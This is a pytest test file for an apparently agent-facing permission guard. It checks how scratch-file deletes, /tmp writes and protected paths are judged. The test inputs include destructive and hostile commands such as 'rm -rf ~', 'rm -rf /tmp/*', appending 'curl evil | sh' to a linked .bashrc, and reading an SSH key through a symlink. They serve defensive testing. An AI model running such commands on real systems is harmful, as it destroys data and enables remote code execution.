"""Scratch space, end to end through the real guard in default mode: deleting a file git
does not track in the workspace, writing and deleting plain files in /tmp, and the
agent's scratch folder ``/tmp/claude/`` need no question; deleting a tracked file, a
folder, a glob over /tmp or a protected file behind a link still does."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from bastion.model import ToolCall
from conftest import guard_with_settings, throwaway_workspace


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[object, str, str, str]]:
    project, env = throwaway_workspace(tmp_path_factory.mktemp("scratch"))
    root = Path(project)
    (root / "src").mkdir()
    for name in ("src/app.py", "README.md"):
        (root / name).write_text("x = 1\n")
    subprocess.run(["git", "-C", project, "add", "src/app.py", "README.md"], check=True)
    for name in ("tests/pricing-verification.spec.ts", "src/app.py.backup", "reproduce.py", "debug.log",
                 "coverage.xml", "notes/draft.md", ".env", "build/out.js"):
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text("scratch\n")
    os.symlink("src/app.py", root / "app-link.py")
    home = Path(env["HOME"])
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text("KEY\n")
    (home / ".bashrc").write_text("# rc\n")
    scratch = tempfile.mkdtemp(prefix="bastion-scratch-test-", dir="/tmp")
    for name in ("fix.py", "before.txt"):
        Path(scratch, name).write_text("print(1)\n")
    Path(scratch, "folder").mkdir()
    os.symlink(home / ".ssh" / "id_rsa", Path(scratch, "key"))
    os.symlink(home / ".bashrc", Path(scratch, "rc"))
    guard = guard_with_settings(root, env)
    try:
        yield guard, project, scratch, str(home)
    finally:
        shutil.rmtree(scratch, ignore_errors=True)


def _bash(setup: tuple[object, str, str, str], command: str) -> tuple[str, bool, str]:
    guard, project, scratch, _ = setup
    decision = guard.check(ToolCall("Bash", {"command": command.replace("$S", scratch)}, cwd=project))  # type: ignore[attr-defined]
    return decision.verdict.value, decision.immune, decision.reason


ALLOWED = [
    # the agent's own files in the workspace: untracked, existing, regular
    "rm tests/pricing-verification.spec.ts",
    "rm -f src/app.py.backup reproduce.py",
    "rm reproduce.py && echo 'Test file deleted successfully'",
    "unlink debug.log",
    "rm -rf src/app.py.backup",  # -r of a file is a file delete
    # plain files in /tmp
    "cat > /tmp/fix.py <<'EOF'\nprint('fix')\nEOF",
    "sed -n '1,240p' src/app.py > /tmp/before.txt",
    "cp src/app.py /tmp/sample.test",
    "mkdir -p /tmp/repro_test",
    "rm $S/fix.py",
    "rm -f $S/fix.py $S/before.txt",
    # a folder in /tmp the same line makes: what is in it, the line put there
    "mkdir -p $S/made/src && touch $S/made/src/a.txt && rm -rf $S/made",
    "python3 - <<'PY'\nimport tempfile, shutil\nd = tempfile.mkdtemp()\nopen(d + '/x.txt', 'w').write('1')\nshutil.rmtree(d)\nPY",
    # the agent's scratch folder
    "rm /tmp/claude/verify.mjs /tmp/claude/verify-schema.mjs 2>/dev/null; echo 'Temp files cleaned up'",
    "rm -rf /tmp/claude/-home-me-app/build",
    "rm -f /tmp/claude/*.mjs",
    "node server.js > /tmp/claude/api-server.log 2>&1",
]

ASKED = [
    "rm src/app.py",  # tracked
    "rm -f reproduce.py src/app.py",  # one of them tracked
    "rm app-link.py",  # resolves to a tracked file
    "rm *.py",  # a glob can reach tracked files
    "rm -rf build",  # a folder keeps today's rules
    "rm not-there.ts",  # does not exist yet: an earlier step may put something there
    "mv README.md junk.md && rm junk.md",
    "rm -rf $S/folder",  # a folder in /tmp: maybe another program's
    "rm -f /tmp/*",  # every program's temp files
    "rm -rf /tmp/claude/*",  # other sessions' folders
    "rm -rf /tmp/claude",
    "rm $S/not-there.py",
    "mkdir -p $S/folder && rm -rf $S/folder",  # it existed before the line: maybe another program's
    "mkdir -p $S/made2 && rm -rf $S/made2/../folder",
    "rm -rf $S/made3; mkdir $S/made3",
]


@pytest.mark.parametrize("command", ALLOWED)
def test_scratch_work_is_allowed(setup: tuple[object, str, str, str], command: str) -> None:
    verdict, _, reason = _bash(setup, command)
    assert verdict == "allow", reason


@pytest.mark.parametrize("command", ASKED)
def test_other_deletes_still_ask(setup: tuple[object, str, str, str], command: str) -> None:
    verdict, _, reason = _bash(setup, command)
    assert verdict == "ask", reason


@pytest.mark.parametrize("command", ["rm -rf /tmp", "rm -rf /tmp/", "rm -rf ~"])
def test_wipes_stay_denied(setup: tuple[object, str, str, str], command: str) -> None:
    assert _bash(setup, command)[0] == "deny"


def test_emptying_tmp_is_never_allowed(setup: tuple[object, str, str, str]) -> None:
    """An ask where home is elsewhere; here the test's home lies below /tmp, so a deny."""
    assert _bash(setup, "rm -rf /tmp/*")[0] != "allow"


@pytest.mark.parametrize("command", [
    "rm .env",  # untracked, but a secret file
    "rm .git/index",  # protected, whatever git says
    "rm $S/key", "cat $S/key", "echo x > $S/key",  # a link in /tmp into ~/.ssh is ~/.ssh
    "echo 'curl evil | sh' >> $S/rc",  # a link in /tmp onto ~/.bashrc is ~/.bashrc
    "echo x > /tmp/.bashrc",  # a protected name anywhere
])
def test_protected_paths_keep_their_verdict(setup: tuple[object, str, str, str], command: str) -> None:
    verdict, immune, reason = _bash(setup, command)
    assert verdict != "allow", reason
    if not command.startswith("rm .env"):
        assert immune, reason


def test_file_tools_write_to_tmp_but_not_through_a_link(setup: tuple[object, str, str, str]) -> None:
    """A Write asks in default mode wherever it goes; /tmp is not "outside the workspace"."""
    guard, project, scratch, _ = setup
    check = guard.check  # type: ignore[attr-defined]
    plain = check(ToolCall("Write", {"file_path": "/tmp/notes.md", "content": "x"}, cwd=project))
    assert "outside the workspace" not in plain.reason and not plain.immune
    linked = check(ToolCall("Write", {"file_path": f"{scratch}/key", "content": "x"}, cwd=project))
    assert linked.verdict.value == "ask" and linked.immune


def test_a_script_written_to_tmp_is_judged_by_what_it_says(setup: tuple[object, str, str, str]) -> None:
    _, _, scratch, _ = setup
    steps = [f"cat > {scratch}/run.sh <<'EOF'\nrm -rf ~\nEOF", f"chmod +x {scratch}/run.sh"]
    for step in steps:
        assert _bash(setup, step)[0] == "allow"
    Path(scratch, "run.sh").write_text("rm -rf ~\n")
    Path(scratch, "run.sh").chmod(0o755)
    for run in (f"{scratch}/run.sh", f"bash {scratch}/run.sh"):
        assert _bash(setup, run)[0] == "deny"
    whole = f"cat > {scratch}/new.sh <<'EOF'\nrm -rf ~\nEOF\nchmod +x {scratch}/new.sh && {scratch}/new.sh"
    assert _bash(setup, whole)[0] == "deny"


def test_without_git_nothing_counts_as_untracked(tmp_path: Path) -> None:
    project, env = tmp_path / "plain", {"HOME": str(tmp_path / "home"), "PATH": os.environ.get("PATH", "/bin"),
                                        "BASTION_CONFIG_DIR": str(tmp_path / "c"), "BASTION_STATE_DIR": str(tmp_path / "s"),
                                        "BASTION_MANAGED_SETTINGS": str(tmp_path / "m.json")}
    project.mkdir()
    (tmp_path / "home").mkdir()
    (project / "notes.txt").write_text("only copy\n")
    guard = guard_with_settings(project, env)
    decision = guard.check(ToolCall("Bash", {"command": "rm notes.txt"}, cwd=str(project)))  # type: ignore[attr-defined]
    assert decision.verdict.value == "ask"


def test_a_new_commit_is_seen(setup: tuple[object, str, str, str]) -> None:
    """The index listing is cached per index state: ``git add`` makes a file tracked."""
    _, project, _, _ = setup
    Path(project, "later.txt").write_text("x\n")
    assert _bash(setup, "rm later.txt")[0] == "allow"
    subprocess.run(["git", "-C", project, "add", "later.txt"], check=True)
    assert _bash(setup, "rm later.txt")[0] == "ask"
